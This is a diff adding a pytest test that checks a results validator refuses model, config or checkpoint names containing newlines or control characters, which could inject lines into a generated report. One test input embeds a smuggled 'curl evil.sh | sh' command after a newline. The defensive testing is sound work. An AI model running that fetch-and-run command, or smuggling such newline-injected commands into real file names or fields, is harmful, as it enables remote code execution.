@@ -506,6 +506,21 @@ def test_validate_checks_nested_confidence_and_lifecycle():
         validate_results(bad)
 
 
+@pytest.mark.parametrize("key", ["model", "config", "checkpoint"])
+@pytest.mark.parametrize("bad", ["CP\ncurl evil.sh | sh", "CP\n", "CP\r", "CP\x1b[2J", "CP\x85"])
+def test_a_name_with_a_newline_or_control_character_is_refused(tmp_path, key, bad):
+    """A name becomes a line of report.md and a cell of its tables: a newline in it would add
+    lines of the file's choosing (shell lines, if the report lands where a shell reads it)."""
+    with pytest.raises(ResultsError) as err:
+        validate_results(_broken(lambda r: r.update({key: bad})), where="x/results.json")
+    assert str(err.value).startswith(f"x/results.json[{key!r}]: {bad!r} does not match ")
+    path = tmp_path / "results.json"  # nor is such a file loaded
+    path.write_text(json.dumps({**CP, key: bad}))
+    with pytest.raises(ResultsError, match=rf"\[{key!r}\]: "):
+        load_results(path)
+    validate_results(_broken(lambda r: r.update({key: "PHiM+LOT (§4) ü"})))  # printable: fine
+
+
 def test_save_refuses_invalid(tmp_path):
     with pytest.raises(ResultsError, match="results.json"):
         save_results(_broken(lambda r: r.pop("model")), tmp_path / "results.json")
